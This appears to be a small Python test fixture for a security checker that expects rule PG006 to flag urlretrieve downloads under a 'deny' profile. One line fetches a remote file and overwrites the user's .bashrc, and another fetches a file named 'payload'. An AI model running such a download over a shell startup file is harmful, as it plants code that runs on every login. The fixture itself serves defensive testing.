# corpus: profile=networked decision=deny
"""urlretrieve writes what it downloads: to the path it is given, or to a temporary file."""
import urllib.request

urllib.request.urlretrieve("https://example.com/rc", "/home/user/.bashrc")  # expect: PG006
urllib.request.urlretrieve("https://example.com/payload")  # expect: PG006
